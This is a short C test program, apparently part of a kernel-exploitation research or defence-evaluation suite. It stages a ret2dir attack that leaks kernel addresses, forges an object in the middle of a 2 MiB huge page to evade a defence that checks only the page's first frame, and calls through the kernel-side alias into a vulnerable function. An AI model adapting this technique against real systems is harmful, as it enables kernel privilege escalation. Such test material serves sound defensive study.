/* ret2dir with a large page: the payload is in the middle of a 2 MiB user page. */
#include <stdio.h>

#include "attack.h"

/*
 * Far from both ends: neither is where a defence that only looks at a page's first frame would
 * look.
 */
enum { PAYLOAD_OFFSET = 300 * BW_PAGE_SIZE };

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *payload = (char *)attack_huge_page() + PAYLOAD_OFFSET;
	uint64_t synonym = attack_synonym(&leak, payload);

	payload_object(payload, synonym, &leak);
	attack_say("forged object at 0x%lx, in a 2 MiB page, frame 0x%lx", (uintptr_t)payload,
		   attack_pfn(payload));
	attack_say("the kernel calls through the same bytes at 0x%lx", synonym);
	attack_settle();
	attack_check("vuln_call", bw_vuln_call(synonym));
	return attack_finish();
}
